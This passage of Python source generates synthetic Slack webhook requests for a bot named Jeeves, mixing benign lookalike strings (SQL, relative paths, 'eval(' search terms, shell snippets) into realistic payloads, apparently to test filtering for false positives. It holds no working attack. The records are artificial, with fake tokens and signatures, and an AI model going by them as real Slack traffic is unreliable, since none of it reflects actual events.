        """JSON as Slack serialises it: compact, non-ASCII as \\u escapes, slashes often escaped."""
        text = json.dumps(doc, separators=(",", ":"), ensure_ascii=True)
        return text.replace("/", "\\/") if self.rng.random() < 0.7 else text

    def event_record(self, doc: Doc, at: int) -> Doc:
        headers = {"User-Agent": SLACK_UA, "Accept": "*/*", "Accept-Encoding": "gzip,deflate",
                   "Content-Type": "application/json", "X-Slack-Request-Timestamp": str(at),
                   "X-Slack-Signature": "v0=" + "0" * 64}
        if self.rng.random() < 0.06:
            headers["X-Slack-Retry-Num"] = str(self.rng.randint(1, 3))
            headers["X-Slack-Retry-Reason"] = self.pick(["http_timeout", "http_error"])
        return {"method": "POST", "uri": "/slack/events", "body": self.dump(doc), "headers": headers,
                "placement": "json"}

    def form_record(self, uri: str, fields: list[tuple[str, str]], at: int) -> Doc:
        return {"method": "POST", "uri": uri, "body": urllib.parse.urlencode(fields),
                "headers": {"User-Agent": SLACK_UA, "Accept": "application/json,*/*",
                            "Accept-Encoding": "gzip,deflate",
                            "Content-Type": "application/x-www-form-urlencoded",
                            "X-Slack-Request-Timestamp": str(at), "X-Slack-Signature": "v0=" + "0" * 64},
                "placement": "form"}

    # ---- event records ----
    def ev_bot_post(self, maker: Callable[[], Doc], chan_kind: str) -> Doc:
        team = self.team()[0]
        at = self.tick()
        post = maker()
        ts = self.ts(at)
        msg = self.bot_message(post, team, ts)
        channel = self.channel(chan_kind)[0]
        if self.rng.random() < 0.15:
            msg["thread_ts"] = self.ts(at - self.rng.randint(60, 5000))
            msg["parent_user_id"] = self.apps[post["app"]]["user"]
        msg.update({"channel": channel, "event_ts": ts, "channel_type": self.pick(["channel", "channel", "group"])})
        return self.event_record(self.envelope(team, msg, at), at)

    def ev_link_shared(self) -> Doc:
        team = self.team()[0]
        at = self.tick()
        user = self.person(team)[0]
        links = [self.long_url() for _ in range(self.rng.choices([1, 2, 3], [6, 3, 1])[0])]
        channel = self.channel(self.pick(["alerts", "incident", "general", "db", "issues"]))[0]
        source = self.pick(["conversations_history", "conversations_history", "composer"])
        if source == "composer":  # a draft being typed: Slack names it after the user and a draft id
            draft = f"{user}-{self.sha(8)}-{self.sha(4)}-{self.sha(4)}-{self.sha(4)}-{self.sha(12)}-" \
                    + "".join(self.rng.choice(string.ascii_lowercase + string.digits) for _ in range(32))
            msg_ts, unfurl_id, channel = draft, draft, "COMPOSER"
        else:
            msg_ts = self.ts(at)
            unfurl_id = f"{channel}.{msg_ts}.{self.sha(40)}"
        event: Doc = {"type": "link_shared", "user": user, "channel": channel,
                      "message_ts": msg_ts, "unfurl_id": unfurl_id,
                      "source": source, "is_bot_user_member": True,
                      "links": [{"domain": urllib.parse.urlsplit(u).hostname or "", "url": u} for u in links],
                      "event_ts": self.ts(at)}
        if self.rng.random() < 0.2:
            event["thread_ts"] = self.ts(at - 400)
        return self.event_record(self.envelope(team, event, at), at)

    def long_url(self) -> str:
        v = self.values()
        svc, env = v["svc"], v["env"]
        kind = self.rng.randrange(12)
        q = urllib.parse.quote
        if kind == 0:
            _, query = self.pick(ALERT_QUERIES)
            return self.link_dashboard(svc, env, self.fill(query, v))
        if kind == 1:
            kql = f'service.name:"{svc}" and http.response.status_code >= 500 and not url.path:"/healthz"'
            return ("https://kibana.acme.dev/app/discover#/?_g=(filters:!(),refreshInterval:(pause:!t,value:0),"
                    "time:(from:now-15m,to:now))&_a=(columns:!(message,http.request.method,url.path),"
                    f"index:'logs-{env}-*',interval:auto,query:(language:kuery,query:'{q(kql, safe='')}'),"
                    "sort:!(!('@timestamp',desc)))")
        if kind == 2:
            return "https://app.datadoghq.com/logs?" + urllib.parse.urlencode([
                ("query", f"service:{svc} env:{env} status:error @http.status_code:[500 TO 599] -@http.url_details."
                          "path:/healthz"), ("cols", "host,service,@http.url"), ("index", "*"),
                ("messageDisplay", "inline"), ("stream_sort", "desc"), ("viz", "stream"),
                ("from_ts", f"{self.clock - 900}000"), ("to_ts", f"{self.clock}000"), ("live", "false")])
        if kind == 3:
            issue = self.rng.randint(4 * 10**9, 5 * 10**9)
            return f"https://acme.sentry.io/issues/{issue}/?" + urllib.parse.urlencode([
                ("project", str(self.rng.randint(10**6, 10**7))),
                ("query", f'is:unresolved release:"{svc}@{v["ver"]}" error.type:TypeError'),
                ("referrer", "slack"), ("statsPeriod", "14d"), ("environment", env)])
        if kind == 4:
            jql = (f'project = OPS AND status in ("In Progress", "To Do") AND labels = {svc} AND text ~ '
                   f'"\\"502 Bad Gateway\\"" ORDER BY created DESC')
            return "https://acme.atlassian.net/issues/?" + urllib.parse.urlencode([("jql", jql)], quote_via=q)
        if kind == 5:
            needle = self.pick(["innerHTML", "shell=True", "execute(f", "../", "SELECT *", "eval("])
            language = self.pick(["Python", "TypeScript", "Go", "Ruby"])
            return "https://github.com/search?" + urllib.parse.urlencode([
                ("q", f'repo:acme/{self.pick(REPOS)} "{needle}" language:{language}'), ("type", "code")])
        if kind == 6:
            spl = f"search index={env} sourcetype=nginx:access status>=500 | stats count by uri_path | sort -count"
            return "https://splunk.acme.dev/en-US/app/search/search?" + urllib.parse.urlencode([
                ("q", spl), ("display.page.search.mode", "smart"), ("dispatch.sample_ratio", "1"),
                ("earliest", "-24h@h"), ("latest", "now"), ("sid", f"{self.clock}.{self.rng.randint(1000, 99999)}")])
        if kind == 7:
            native = {"dataset_query": {"database": self.rng.randint(1, 9), "type": "native",
                                        "native": {"query": self.pick(SLOW_QUERIES), "template-tags": {}}},
                      "display": "table", "visualization_settings": {}}
            return "https://metabase.acme.dev/question#" + base64.b64encode(
                json.dumps(native, separators=(",", ":")).encode()).decode()
        if kind == 8:
            insights = (f"fields @timestamp, @message | filter @message like /ERROR/ and @logStream like /{svc}/ "
                        f"| sort @timestamp desc | limit 200")
            enc = q(insights, safe="").replace("%", "*")
            return (f"https://{v['region']}.console.aws.amazon.com/cloudwatch/home?region={v['region']}#logsV2:"
                    f"logs-insights$3FqueryDetail$3D~(end~0~start~-3600~timeType~'RELATIVE~unit~'seconds~"
                    f"editorString~'{enc}~source~(~'*2faws*2fecs*2f{svc}))")
        if kind == 9:
            return "https://www.figma.com/file/" + _h(str(self.rng.random()), 22) + "/Checkout-v3?" + \
                urllib.parse.urlencode([("type", "design"), ("node-id", f"{self.rng.randint(1, 9999)}-"
                                                                         f"{self.rng.randint(1, 9999)}"),
                                        ("mode", "design"), ("t", _h(str(self.rng.random()), 16) + "-0")])
        if kind == 10:
            return (f"{BASE_URL}/me/?" + urllib.parse.urlencode([("tab", self.pick(["settings", "history",
                                                                                   "location"])),
                                                                  ("utm_source", "slack"),
                                                                  ("utm_medium", "app_home")]))
        honey = {"calculations": [{"op": "HEATMAP", "column": "duration_ms"}, {"op": "P99", "column": "duration_ms"}],
                 "filters": [{"column": "service.name", "op": "=", "value": svc},
                             {"column": "http.route", "op": "starts-with", "value": "/api/v2/"}],
                 "breakdowns": ["http.route"], "time_range": 7200}
        return (f"https://ui.honeycomb.io/acme/environments/{env}/datasets/{svc}?query="
                + q(json.dumps(honey, separators=(",", ":")), safe=""))

    def ev_message_changed(self) -> Doc:
        team = self.team()[0]
        at = self.tick()
        orig_ts = self.ts(at - self.rng.randint(5, 3600))
        channel = self.channel(self.pick(["ci", "alerts", "general", "review", "incident"]))[0]
        kind = self.rng.randrange(3)
        if kind == 0:  # a bot edits its own message: running -> result, firing -> resolved
            post = self.pick([self.post_ci, self.post_alert, self.post_incident, self.post_tests])()
            new = self.bot_message(post, team, orig_ts, legacy=False)
            new["edited"] = {"user": new["user"], "ts": self.ts(at)}
            old = self.bot_message({"app": post["app"], "text": "In progress…", "attachments": [
                self.attachment(1, "#ecb22e", "Running", text="Running… :hourglass_flowing_sand:")],
                "blocks": None}, team, orig_ts, legacy=False)
        else:  # Slack adds unfurls to a person's message
            user = self.person(team)[0]
            url = self.long_url() if kind == 1 else f"https://stackoverflow.com/questions/" \
                                                    f"{self.rng.randint(10**6, 8 * 10**7)}"
            said = self.pick(["look at this", "same error as yesterday?", "dashboard for the incident",
                              "this is the query I meant", "fyi", "can someone take a look?"])
            old = {"type": "message", "text": f"{said} <{url}>", "user": user, "ts": orig_ts, "team": team,
                   "blocks": [{"type": "rich_text", "block_id": self.bid(), "elements": [
                       {"type": "rich_text_section", "elements": [{"type": "text", "text": said + " "},
                                                                  {"type": "link", "url": url}]}]}]}
            if kind == 1:
                post = self.post_any()
                att = (post["attachments"] or [self.attachment(1, "#439fe0", post["text"] or "preview",
                                                               blocks=post["blocks"])])[0]
            else:
                qa = self.pick([
                    ("How do I escape a single quote in a PostgreSQL string literal?",
                     "I have `SELECT * FROM users WHERE name = 'O'Brien'` and get a syntax error at or near "
                     "\"Brien\"..."),
                    ("Why does `kubectl logs` show \"previous terminated container not found\"?",
                     "Running `kubectl logs -p my-pod` right after a CrashLoopBackOff gives ..."),
                    ("Bash: iterate over files with spaces in the name",
                     "`for f in $(ls *.csv); do wc -l $f; done` breaks on \"Q2 report.csv\"..."),
                    ("React dangerouslySetInnerHTML vs innerHTML",
                     "Is `<div dangerouslySetInnerHTML={{__html: html}} />` any safer than setting innerHTML?"),
                    ("nginx: proxy_pass with a URI strips the location prefix",
                     "With `location /api/ { proxy_pass http://backend/; }` a request to /api/users goes to /users"),
                ])
                att = {"from_url": url, "original_url": url, "service_name": "Stack Overflow",
                       "service_icon": "https://cdn.sstatic.net/Sites/stackoverflow/Img/apple-touch-icon.png",
                       "title": qa[0], "title_link": url, "text": _esc(qa[1]), "fallback": f"Stack Overflow: {qa[0]}",
                       "thumb_url": "https://cdn.sstatic.net/Sites/stackoverflow/Img/apple-touch-icon@2.png",
                       "thumb_width": 316, "thumb_height": 316, "id": 1}
            att = {**att, "from_url": url, "original_url": url, "id": 1}
            new = {**old, "attachments": [att]}
        now = self.ts(at)
        event = {"type": "message", "subtype": "message_changed", "message": new, "previous_message": old,
                 "channel": channel, "hidden": True, "ts": now, "event_ts": now,
                 "channel_type": "channel"}
        return self.event_record(self.envelope(team, event, at), at)

    def home_blocks(self, team: str) -> list[Doc]:
        place = "not set (`remember location <place>`)"
        if self.rng.random() < 0.75:
            place = self.pick(PLACES)
        lines = [f"*Location:* {_esc(place)}", f"*Units:* {self.pick(['metric', 'imperial'])}",
                 f"*Daily alert:* {self.pick(['on', 'off'])} at {self.rng.randint(5, 9):02d}:"
                 f"{self.pick(['00', '15', '30', '45'])} ({self.pick(TIMEZONES)})"]
        return [{"type": "header", "block_id": self.bid(), "text": self.plain("Your Jeeves settings")},
                {"type": "section", "block_id": self.bid(), "text": self.mrkdwn("\n".join(lines))},
                {"type": "divider", "block_id": self.bid()},
                {"type": "section", "block_id": self.bid(), "text": self.mrkdwn(
                    f"Change them here with `/jeeves config ...`, or on <{BASE_URL}/me/|your page> "
                    "(send me `login` for a sign-in link).")}]

    def ev_home(self) -> Doc:
        team = self.team()[0]
        at = self.tick()
        user = self.person(team)[0]
        tab = self.rng.choices(["home", "messages"], [4, 1])[0]
        event: Doc = {"type": "app_home_opened", "user": user, "channel": "D0" + _h(team + user, 9), "tab": tab}
        if tab == "home" and self.rng.random() < 0.9:
            view_id = "V0" + "".join(self.rng.choice(_UP) for _ in range(9))
            event["view"] = {"id": view_id, "team_id": team, "type": "home", "blocks": self.home_blocks(team),
                             "private_metadata": "", "callback_id": "", "state": {"values": {}},
                             "hash": f"{at - self.rng.randint(10, 10**6)}.{_h(view_id, 8).lower()}",
                             "title": self.plain("View Title"), "clear_on_close": False, "notify_on_close": False,
                             "close": None, "submit": None, "previous_view_id": None, "root_view_id": view_id,
                             "app_id": APP_ID, "external_id": "", "app_installed_team_id": team,
                             "bot_id": "B0" + _h("jeevesbot" + team, 9)}
        event["event_ts"] = self.ts(at)
        return self.event_record(self.envelope(team, event, at), at)

    def ev_workflow(self) -> Doc:
        team = self.team()[0]
        at = self.tick()
        person = self.person(team)
        channel = self.channel("workflow")[0]
        forms = [
            ("Access request", [("System", self.pick(["prod database (read-only)", "AWS prod account",
                                                      "Grafana admin", "k8s prod namespace"])),
                                ("Why do you need it?", "Investigating OPS-" + self.values()["n"] + ": need to run\n"  # noqa: S608
                                 "SELECT status, count(*) FROM orders WHERE created_at > now() - interval '1 day' "
                                 "GROUP BY status;\nfor the incident review."),
                                ("Duration", self.pick(["4 hours", "1 day", "1 week"]))]),
            ("Deploy request", [("Service", self.pick(SERVICES)), ("Version", "v" + self.ver()),
                                ("Change summary", self.pick(PR_TITLES)),
                                ("Rollback plan", "helm rollback <release> <revision> -n prod\nthen purge the CDN "
                                                  "cache for /static/*")]),
            ("Incident intake", [("What is broken?", self.pick([
                "Checkout returns 502 for some EU customers", "Emails not sent since 09:00",
                "Dashboard shows NaN% for conversion"])),
                ("Error you see", self.pick([
                    "502 Bad Gateway\nnginx", "Error: connect ECONNREFUSED 10.0.4.21:5432",
                    "{\"error\":\"upstream request timeout\"}", "Uncaught TypeError: Cannot read properties of "
                    "null (reading 'addEventListener')\n    at checkout.js:1:20411"])),
                ("Customer impact", self.pick(["All customers", "Some customers", "Internal only"]))]),
            ("IT helpdesk", [("Category", self.pick(["Laptop", "VPN", "Accounts", "Software"])),
                             ("Describe the problem", self.pick([
                                 "VPN drops every 10 min, log says: `TLS handshake timeout` then `reconnecting`",
                                 "Need Docker Desktop, brew says: Error: Cask 'docker' requires macOS >= 12",
                                 "Can't open C:\\Users\\me\\Documents\\Q2 Budget (final) v3.xlsx — 'file is locked "
                                 "for editing by another user'",
                                 "My ~/.ssh/config Host entries stopped working after the laptop migration"]))]),
            ("On-call handoff", [("Open issues", "- OPS-1423 upload limit (PR #" + str(self.rng.randint(100, 999))
                                  + " merged, deploy pending)\n- flaky e2e on checkout.spec.ts:57\n- disk at 81% on "
                                    "db replica, `pg_wal` growing"),
                                 ("Alerts this week", str(self.rng.randint(3, 40))),
                                 ("Anything to watch?", "cron `0 3 * * * /opt/scripts/vacuum.sh >> /var/log/vacuum.log"
                                                        " 2>&1` runs during the batch import window")]),
            ("Daily standup", [("Yesterday", "Reviewed " + self.pick(PR_TITLES)),
                               ("Today", "Finish the `WHERE deleted_at IS NULL` partial index migration"),
                               ("Blockers", self.pick(["none", "waiting on prod DB access", "CI is red on main"]))]),
        ]
        name, answers = self.pick(forms)
        mode = self.rng.randrange(3)
        if mode == 0:  # the message Workflow Builder posts with the form's answers
            text = f"*{name}* submitted by <@{person[0]}>\n" + "\n".join(f"*{q}*\n{_esc(a)}" for q, a in answers)
            elements: list[Doc] = [{"type": "rich_text_section", "elements": [
                {"type": "text", "text": name, "style": {"bold": True}}, {"type": "text", "text": " submitted by "},
                {"type": "user", "user_id": person[0]}]}]
            for q, a in answers:
                elements.append({"type": "rich_text_section", "elements": [
                    {"type": "text", "text": "\n" + q + "\n", "style": {"bold": True}}, {"type": "text", "text": a}]})
            app = self.apps["Workflow Builder"]
            ts = self.ts(at)
            event: Doc = {"type": "message", "subtype": "bot_message", "text": text, "ts": ts,
                          "bot_id": app["bot_id"], "username": name,
                          "blocks": [{"type": "rich_text", "block_id": self.bid(), "elements": elements}],
                          "channel": channel, "event_ts": ts, "channel_type": "channel"}
            if self.rng.random() < 0.5:
                event["metadata"] = {"event_type": "workflow_form_submitted", "event_payload": {
                    "workflow_id": "Wf0" + _h(name, 9), "submitter": person[0]}}
        elif mode == 1:  # legacy steps from apps: a Jeeves step inside a workflow
            inputs = {f"field_{i}": {"value": a, "skip_variable_replacement": False} for i, (_, a) in
                      enumerate(answers)}
            event = {"type": "workflow_step_execute", "callback_id": "jeeves_weather_step",
                     "workflow_step": {"workflow_step_execute_id": f"{self.rng.randint(10**12, 10**13)}."
                                                                   f"{self.rng.randint(10**9, 10**10)}.{self.sha(32)}",
                                       "workflow_id": str(self.rng.randint(10**17, 10**18)),
                                       "workflow_instance_id": str(self.rng.randint(10**17, 10**18)),
                                       "step_id": f"{self.sha(8)}-{self.sha(4)}-{self.sha(4)}-{self.sha(4)}-"
                                                  f"{self.sha(12)}",
                                       "inputs": {**inputs, "place": {"value": self.pick(PLACES)}},
                                       "outputs": [{"name": "forecast", "type": "text", "label": "Forecast"}]},
                     "event_ts": self.ts(at)}
        else:  # next-generation platform: a Jeeves custom function run by a workflow
            event = {"type": "function_executed",
                     "function": {"id": "Fn0" + _h(name + "fn", 9), "callback_id": "summarize_form",
                                  "title": "Summarize a form", "description": "Posts a summary to a channel",
                                  "type": "app", "input_parameters": [
                                      {"type": "string", "name": "answers", "description": "The form answers",
                                       "title": "Answers", "is_required": True}],
                                  "output_parameters": [{"type": "string", "name": "summary", "title": "Summary",
                                                         "is_required": False}],
                                  "app_id": APP_ID, "date_created": EPOCH - 10**6, "date_updated": EPOCH - 10**5,
                                  "date_deleted": 0},
                     "inputs": {"answers": "\n".join(f"{q}: {a}" for q, a in answers), "channel_id": channel,
                                "submitter": person[0]},
                     "function_execution_id": "Fx0" + "".join(self.rng.choice(_UP) for _ in range(9)),
                     "workflow_execution_id": "Wx0" + "".join(self.rng.choice(_UP) for _ in range(9)),
                     "event_ts": self.ts(at)}
        return self.event_record(self.envelope(team, event, at), at)

    def ev_snippet(self) -> Doc:
        team = self.team()[0]
        at = self.tick()
        v = self.values()
        by_bot = self.rng.random() < 0.6
        content, ftype, name = self.pick([
            (self.fill(self.pick(BUILD_LOGS), v), "text", f"build-{v['n']}.log"),
            (self.fill(self.pick(KUBECTL), v), "shell", "kubectl.txt"),
            (self.pick(SLOW_QUERIES) + ";", "sql", "slow_query.sql"),
            (self.pick(DIFFS)[1], "diff", "change.diff"),
            (json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sqs:ReceiveMessage",
                                                                  "Resource": f"arn:aws:sqs:{v['region']}:"
                                                                              f"{v['account']}:{v['svc']}-jobs"}]},
                        indent=2), "javascript", "policy.json"),
            (self.fill(self.pick(TF_PLANS), v), "hcl", "plan.txt"),
            (self.fill(self.pick(TEST_FAILURES)[1], v), "text", "failures.txt"),
        ])
        lines = content.split("\n")
        preview = "\n".join(lines[:5])
        highlight = ('<div class="CodeMirror cm-s-default CodeMirrorServer" oncopy="if(event.clipboardData)'
                     '{event.clipboardData.setData(\'text/plain\',window.getSelection().toString().replace(/\\u200b/g,'
                     '\'\'));event.preventDefault();event.stopPropagation();}">\n<div class="CodeMirror-code">\n'
                     + "".join(f"<div><pre>{_esc(line)}</pre></div>\n" for line in lines[:5]) + "</div>\n</div>\n")
        fid = "F0" + "".join(self.rng.choice(_UP) for _ in range(9))
        owner = self.apps[self.pick(["GitHub Actions", "Jenkins", "AWS Chatbot", "pganalyze"])]["user"] if by_bot \
            else self.person(team)[0]
        file: Doc = {"id": fid, "created": at, "timestamp": at, "name": name, "title": name,
                     "mimetype": "text/plain", "filetype": ftype, "pretty_type": ftype.upper() if ftype != "text"
                     else "Plain Text", "user": owner, "user_team": team, "editable": True, "size": len(content),
                     "mode": "snippet", "is_external": False, "external_type": "", "is_public": True,
                     "public_url_shared": False, "display_as_bot": False, "username": "",
                     "url_private": f"https://files.slack.com/files-pri/{team}-{fid}/{name}",
                     "url_private_download": f"https://files.slack.com/files-pri/{team}-{fid}/download/{name}",
                     "permalink": f"https://{dict(TEAMS)[team]}.slack.com/files/{owner}/{fid}/{name}",
                     "permalink_public": f"https://slack-files.com/{team}-{fid}-{self.sha(10)}",
                     "edit_link": f"https://{dict(TEAMS)[team]}.slack.com/files/{owner}/{fid}/{name}/edit",
                     "preview": preview, "preview_highlight": highlight, "lines": len(lines),
                     "lines_more": max(0, len(lines) - 5), "preview_is_truncated": len(lines) > 5,
                     "has_rich_preview": False, "file_access": "visible"}
        ts = self.ts(at)
        event: Doc = {"type": "message", "subtype": "file_share", "text": self.pick(
            ["", "full log attached", "here's the plan output", "query from the report", "see snippet"]),
            "files": [file], "upload": True, "user": owner, "display_as_bot": False, "ts": ts,
            "channel": self.channel(self.pick(["ci", "db", "cloud", "general"]))[0], "event_ts": ts,
            "channel_type": "channel"}
        if by_bot:
            event["bot_id"] = "B0" + owner[2:]
        return self.event_record(self.envelope(team, event, at), at)

    # ---- slash commands ----
    def cmd_text(self) -> str:
        v = self.values()
        return self.pick([
            f"weather {self.pick(PLACES).split(',')[0]}", f"remember location {self.pick(PLACES)}", "help", "",
            f"config timezone {self.pick(TIMEZONES)}", f"config alert_time {self.rng.randint(5, 9):02d}:30",
            "config units imperial", "alerts on", "my location", "login",
            f"deploy {v['svc']}@v{v['ver']} --env={v['env']}", "grep -rn 'TODO' src/ | wc -l",
            f"tail -n 200 /var/log/{v['svc']}/worker.log", f"logs {v['svc']} --since=15m | grep -i error",
            "SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day'",
            "run ./scripts/backfill.py --from 2024-06-01 --to 2024-06-20 --dry-run",
            "remind me to check /etc/nginx/conf.d/upstreams.conf after the deploy",
            f"help with `kubectl rollout undo deploy/{v['svc']} -n {v['env']}`",
            "weather for the office at 10 Downing St, London",
            "config timezone C:\\Users\\ann\\AppData\\Local\\Temp",
            f"remember location ~/projects/{v['svc']}", "what does `set -euo pipefail` do?",
            "weather <https://maps.google.com/?q=48.8566,2.3522|48.8566,2.3522>",
            "remember location Paris &amp; suburbs", "alerts on &gt;= 07:00 please",
            f"open https://github.com/acme/{self.pick(REPOS)}/pull/{self.rng.randint(100, 4000)}",
            "config units=metric; alerts=on", "weather São Paulo", "weather L'Aquila", "weather St. John's",
            f"why is {v['svc']} 502ing",
            "ls ../app/services/actions", "echo $HOME", "help me write `awk '{print $1}' access.log | sort | uniq -c`",
            f"weather {self.rng.uniform(-60, 60):.4f},{self.rng.uniform(-170, 170):.4f}",
        ])

    def slash_command(self) -> Doc:
        team, domain = self.team()
        at = self.tick()
        user, _, login = self.person(team)
        channel_id, channel_name = self.channel(self.pick(["general", "ci", "alerts", "db"]))
        if self.rng.random() < 0.3:
            channel_id, channel_name = "D0" + _h(team + user, 9), "directmessage"
        fields = [("token", _token("verification" + team)), ("team_id", team), ("team_domain", domain),
                  ("channel_id", channel_id), ("channel_name", channel_name), ("user_id", user),
                  ("user_name", login), ("command", self.pick(["/jeeves", "/jeeves", "/jeeves", "/weather"])),
                  ("text", self.cmd_text()), ("api_app_id", APP_ID), ("is_enterprise_install", "false"),
                  ("response_url", self.hook(team, "commands")), ("trigger_id", self.trigger_id())]
        if self.rng.random() < 0.1:
            fields[3:3] = [("enterprise_id", "E0" + _h(team, 8)), ("enterprise_name", "Acme Holdings")]
        return self.form_record("/slack/commands", fields, at)

    # ---- interactivity ----
    def who(self, team: str, domain: str) -> tuple[Doc, Doc]:
        user, name, login = self.person(team)
        return ({"id": user, "username": login, "name": login, "team_id": team},
                {"id": team, "domain": domain})

    def interaction(self, payload: Doc, at: int) -> Doc:
        return self.form_record("/slack/interactions", [("payload", self.dump(payload))], at)

    def block_actions(self) -> Doc:
        team, domain = self.team()
        at = self.tick()
        user, team_doc = self.who(team, domain)
        channel_id, channel_name = self.channel(self.pick(["general", "ci", "alerts", "workflow"]))
        place = self.pick(PLACES)
        deg = self.rng.randint(-5, 34)
        summary = (f"{place}: {self.pick(WEATHER)}, {deg}°C, wind {self.rng.randint(0, 60)} km/h; today "
                   f"{deg - self.rng.randint(1, 8)}°C to {deg + self.rng.randint(1, 8)}°C, "
                   f"{self.rng.randint(0, 100)}% chance of precipitation")
        forget = self.rng.random() < 0.3
        msg_ts = self.ts(at - self.rng.randint(2, 900))
        jeeves_bot = "B0" + _h("jeevesbot" + team, 9)
        if forget:
            text = ("This deletes everything I know about you: your location, settings, sign-in sessions and "
                    "history. It cannot be undone.")
            action_id = self.pick(["forget_me_confirm", "forget_me_cancel"])
            label, value = ("Yes, forget me" if action_id == "forget_me_confirm" else "Cancel"), "-"
            blocks: list[Doc] = [
                {"type": "section", "block_id": self.bid(), "text": self.mrkdwn(text)},
                {"type": "actions", "block_id": self.bid(), "elements": [
                    {"type": "button", "action_id": "forget_me_confirm", "text": self.plain("Yes, forget me"),
                     "value": "-", "style": "danger"},
                    {"type": "button", "action_id": "forget_me_cancel", "text": self.plain("Cancel"), "value": "-"}]}]
        else:
            text, action_id, label, value = summary, "set_location", "Set as my location", place.split(",")[0]
            blocks = [{"type": "section", "block_id": self.bid(), "text": self.mrkdwn(_esc(summary))},
                      {"type": "actions", "block_id": self.bid(), "elements": [
                          {"type": "button", "action_id": "set_location", "text": self.plain("Set as my location"),
                           "value": value}]}]
        block_id = blocks[1]["block_id"]
        message: Doc = {"user": self.jeeves_user[team], "type": "message", "ts": msg_ts, "bot_id": jeeves_bot,
                        "app_id": APP_ID, "text": _esc(text), "team": team, "blocks": blocks}
        if self.rng.random() < 0.6:  # the thread the answer sits in carries another app's attachments
            post = self.post_any()
            message["attachments"] = post["attachments"] or [
                self.attachment(1, "#439fe0", post["text"] or "context", blocks=post["blocks"])]
            message["thread_ts"] = self.ts(at - 4000)
            message["parent_user_id"] = self.apps[post["app"]]["user"]
        ephemeral = forget and self.rng.random() < 0.5
        container: Doc = {"type": "message", "message_ts": msg_ts, "channel_id": channel_id,
                          "is_ephemeral": ephemeral}
        payload: Doc = {"type": "block_actions", "user": user, "api_app_id": APP_ID,
                        "token": _token("verification" + team), "container": container,
                        "trigger_id": self.trigger_id(), "team": team_doc, "enterprise": None,
                        "is_enterprise_install": False, "channel": {"id": channel_id, "name": channel_name},
                        "state": {"values": {}}, "response_url": self.hook(team, "actions"),
                        "actions": [{"action_id": action_id, "block_id": block_id, "text": self.plain(label),
                                     "value": value, "type": "button", "action_ts": self.ts(at)}]}
        if action_id == "forget_me_confirm":
            payload["actions"][0]["style"] = "danger"
        if not ephemeral:
            payload["message"] = message
        return self.interaction(payload, at)

    def modal_answer(self) -> str:
        v = self.values()
        post = self.post_any()
        pasted = post["text"] or ""
        for block in post.get("blocks") or []:
            for element in block.get("elements", []) if block.get("type") == "rich_text" else []:
                if element.get("type") == "rich_text_preformatted":
                    pasted = element["elements"][0]["text"]
        for att in post.get("attachments") or []:
            pasted = att.get("text") or att.get("fallback") or pasted
        return self.pick([
            f"Jeeves told me the weather for the wrong city. I typed:\n/jeeves weather {self.pick(PLACES)}\n"
            f"and got Paris. Screenshot in the thread.",
            f"Remind me to follow up on this alert:\n{pasted[:1200]}",
            f"Saving this from #{self.pick(CHANNELS['ci'])} for the retro:\n\n{pasted[:1500]}",
            f"The daily alert came at 06:30 instead of 07:30, my tz is {self.pick(TIMEZONES)}.\n"
            "Settings page said: config timezone updated.",
            f"Error from the CI bot, can Jeeves explain it?\n```\n{pasted[:1000]}\n```",
            f"Steps:\n1. open App Home\n2. click 'your page'\n3. {BASE_URL}/me/ shows 'session expired' even right "
            f"after `login`\nBrowser: {self.pick(['Firefox 127', 'Safari 17.5', 'Chrome 126'])}",
            f"Query to run every morning:\n{self.pick(SLOW_QUERIES)}",
            f"Note for {v['svc']} on-call:\n- restart with `kubectl -n {v['env']} rollout restart deploy/{v['svc']}`"
            f"\n- logs in /var/log/{v['svc']}/*.log on the old VMs\n- dashboard: {self.long_url()}",
        ])

    def view_submission(self) -> Doc:
        team, domain = self.team()
        at = self.tick()
        user, team_doc = self.who(team, domain)
        view_id = "V0" + "".join(self.rng.choice(_UP) for _ in range(9))
        callback, title, inputs = self.pick([
            ("jeeves_report_problem", "Report a problem", [("what_happened", "What happened?", True),
                                                           ("contact_ok", "Can we contact you?", False)]),
            ("jeeves_remind", "Remind me about this", [("note", "Note", True), ("when", "When", False)]),
            ("jeeves_save_note", "Save to Jeeves", [("note", "What to save", True), ("tags", "Tags", False)]),
            ("jeeves_feedback", "Feedback for Jeeves", [("feedback", "Your feedback", True)]),
            ("jeeves_alert_settings", "Daily alert", [("place", "Place", False), ("extra", "Anything else?", True)]),
        ])
        blocks: list[Doc] = []
        values: Doc = {}
        for action, label, multiline in inputs:
            bid = self.bid()
            if action == "when":
                blocks.append({"type": "input", "block_id": bid, "label": self.plain(label), "optional": False,
                               "dispatch_action": False, "element": {"type": "datetimepicker", "action_id": action}})
                values[bid] = {action: {"type": "datetimepicker", "selected_date_time": at + 86400}}
                continue
            value = self.modal_answer() if multiline else self.pick(
                ["yes", "no", "ops, triage", "ci flaky", self.pick(PLACES), "sure, DM me"])
            element: Doc = {"type": "plain_text_input", "action_id": action, "multiline": multiline,
                            "dispatch_action_config": {"trigger_actions_on": ["on_enter_pressed"]}}
            if self.rng.random() < 0.3 and multiline:
                element["initial_value"] = value.split("\n")[0]
            blocks.append({"type": "input", "block_id": bid, "label": self.plain(label), "optional": not multiline,
                           "dispatch_action": False, "element": element})
            if multiline and self.rng.random() < 0.25:
                values[bid] = {action: {"type": "rich_text_input", "rich_text_value": {
                    "type": "rich_text", "elements": [{"type": "rich_text_preformatted", "elements": [
                        {"type": "text", "text": value}], "border": 0}]}}}
            else:
                values[bid] = {action: {"type": "plain_text_input", "value": value}}
        meta = json.dumps({"channel": self.channel("general")[0], "message_ts": self.ts(at - 300),
                           "source": self.pick(["shortcut", "home", "command"])}, separators=(",", ":"))
        view = {"id": view_id, "team_id": team, "type": "modal", "blocks": blocks, "private_metadata": meta,
                "callback_id": callback, "state": {"values": values},
                "hash": f"{at - 30}.{_h(view_id, 8).lower()}", "title": self.plain(title),
                "clear_on_close": False, "notify_on_close": False, "close": self.plain("Cancel"),
                "submit": self.plain("Submit"), "previous_view_id": None, "root_view_id": view_id, "app_id": APP_ID,
                "external_id": "", "app_installed_team_id": team, "bot_id": "B0" + _h("jeevesbot" + team, 9)}
        payload = {"type": "view_submission", "team": team_doc, "user": user, "api_app_id": APP_ID,
                   "token": _token("verification" + team), "trigger_id": self.trigger_id(), "view": view,
                   "response_urls": [], "is_enterprise_install": False, "enterprise": None}
        return self.interaction(payload, at)

    def message_shortcut(self) -> Doc:
        team, domain = self.team()
        at = self.tick()
